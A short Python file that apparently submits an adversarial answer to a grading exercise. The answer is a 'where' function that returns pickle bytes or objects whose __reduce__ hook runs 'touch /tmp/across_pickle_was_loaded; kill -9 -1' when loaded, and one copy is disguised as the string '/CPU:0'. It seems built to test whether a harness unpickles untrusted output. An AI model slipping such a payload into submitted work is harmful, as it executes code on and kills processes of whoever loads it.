"""Sends a pickle that runs code where it is loaded, as a value and as raw bytes."""

from corpus import answering

EXERCISE = "where"
submission = answering(
    EXERCISE,
    """
import pickle


class Bomb:
    def __reduce__(self):
        import os

        return os.system, ("touch /tmp/across_pickle_was_loaded; kill -9 -1",)


class Hidden(str):
    __reduce__ = Bomb.__reduce__


turn = [0]


def where(tensor):
    turn[0] += 1
    return (pickle.dumps(Bomb()), Bomb(), Hidden("/CPU:0"))[turn[0] % 3]
""",
)
